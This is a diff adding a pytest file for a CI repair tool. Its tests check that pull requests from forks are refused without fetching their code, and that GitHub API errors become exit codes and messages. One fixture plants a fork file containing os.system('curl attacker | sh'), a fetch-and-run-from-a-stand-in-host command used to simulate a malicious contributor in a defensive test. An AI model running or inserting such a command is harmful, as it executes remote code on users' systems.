@@ -1,0 +1,103 @@
+"""`ci-agent fix --github` refusing and failing well: fork pull requests are refused without
+touching their code; GitHub API errors become exit codes and sentences naming what to grant."""
+
+from __future__ import annotations
+
+import pytest
+
+from ci_agent.errors import ExitCode
+from tests.fakes.github_fake import Reply, error, forbidden, rate_limited_429
+from tests.github_scenarios.harness import (
+    CiRun,
+    World,
+)
+from tests.github_scenarios.steps import (
+    answer,
+    assert_outputs,
+    model_calls,
+    the_status_comment,
+)
+from tests.scenarios.sample_repos import git
+
+# -- fork pull requests ------------------------------------------------------------------------
+
+
+def test_a_fork_pull_request_is_refused_without_touching_its_code(world: World) -> None:
+    """workflow_run of a PR from a fork: `pull_requests` is empty and `head_repository` is the
+    fork. Its branch is even called `main`. ci-agent must say so and stop: no checkout or fetch of
+    the fork's commit, no model call, nothing pushed, nothing posted."""
+    fork = world.checkout("main", "fork-clone")
+    (fork / "shop" / "evil.py").write_text("import os\nos.system('curl attacker | sh')\n")
+    git(fork, "add", "-A")
+    git(fork, "commit", "-q", "-m", "innocent change")
+    fork_sha = git(fork, "rev-parse", "HEAD").strip()
+    world.github.add_ci_run(9001, head_branch="main", head_sha=fork_sha, conclusion="failure",
+                            log=b"2026-12-02T16:00:00.0000000Z FAILED tests/test_ratings.py\n",
+                            event="pull_request", pull_requests=[])
+
+    run = world.after_ci(CiRun(9001, "main", fork_sha, "failure", "", 0), head_repository="evil/app",
+                         actor="mallory")
+
+    assert run.exit_code == 0, str(run)
+    assert_outputs(run, "refused")
+    assert "fork" in (run.stdout + run.stderr + run.summary).lower()
+    assert model_calls(world) == 0
+    assert world.origin_branches() == ["main"] and world.github.pulls == {}
+    assert world.github.comments == {}
+    has_it = git(run.workspace, "cat-file", "-e", f"{fork_sha}^{{commit}}", check=False)
+    missing = git(run.workspace, "rev-parse", "--verify", "-q", f"{fork_sha}^{{commit}}", check=False)
+    assert has_it == "" and missing.strip() == "", "the fork's commit was fetched into the workspace"
+    assert not world.github.requests_to("GET", r"/repos/octo/app/actions/jobs/\d+/logs")
+
+
+# -- GitHub API errors -----------------------------------------------------------------------
+
+ERRORS = {
+    # the token lacks `actions: read`: nothing can be fetched, the model is never asked
+    "403-jobs": (forbidden("actions=read"), r"/actions/runs/\d+/jobs$", "GET", ExitCode.EXTERNAL_SERVICE,
+                 "actions: read", 0),
+    "404-run": (error(404, "Not Found"), r"/actions/runs/\d+/jobs$", "GET", ExitCode.EXTERNAL_SERVICE,
+                "found nothing", 0),
+    # the fix is pushed but the PR cannot be opened: the permission to grant is named
+    "403-pulls": (forbidden("pull_requests=write"), r"/pulls$", "POST", ExitCode.EXTERNAL_SERVICE,
+                  "pull-requests: write", 1),
+    "5xx-pulls": (error(502, "Server Error", {"retry-after": "0"}), r"/pulls$", "POST",
+                  ExitCode.EXTERNAL_SERVICE, "try again later", 1),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ERRORS))
+def test_api_errors_become_exit_codes_and_sentences(world: World, case: str) -> None:
+    reply, path, method, code, words, calls = ERRORS[case]
+    world.github.inject(reply, path=path, method=method, times=50)
+    answer(world, "broken", "fix")
+
+    run = world.after_ci(world.ci("main"))
+
+    assert run.exit_code == code, str(run)
+    assert words in run.stderr + run.stdout + run.summary, str(run)
+    assert model_calls(world) == calls
+    assert "Traceback" not in run.stderr
+
+
+def test_a_rate_limit_is_waited_out(world: World, forge_waits: list[float]) -> None:
+    world.github.inject(rate_limited_429("7"), path=r"/issues/\d+/comments$", method="POST", times=1)
+    answer(world, "broken", "fix")
+
+    run = world.after_ci(world.ci("main"))
+
+    assert run.exit_code == 0, str(run)
+    assert 7.0 in forge_waits, "retry-after honoured"
+    the_status_comment(world, world.fix_pull()["number"])
+
+
+def test_an_api_that_keeps_failing_is_retried_then_exit_5(world: World, forge_waits: list[float]) -> None:
+    world.github.inject(Reply(503, {"message": "Service Unavailable"}), path=r"/actions/runs/\d+/jobs$",
+                        times=100)
+    run = world.after_ci(world.ci("main"))
+    assert run.exit_code == ExitCode.EXTERNAL_SERVICE, str(run)
+    assert len(world.github.requests_to("GET", r"/repos/octo/app/actions/runs/\d+/jobs")) > 1
+    assert forge_waits, "waited between attempts"
+    assert model_calls(world) == 0
+
+
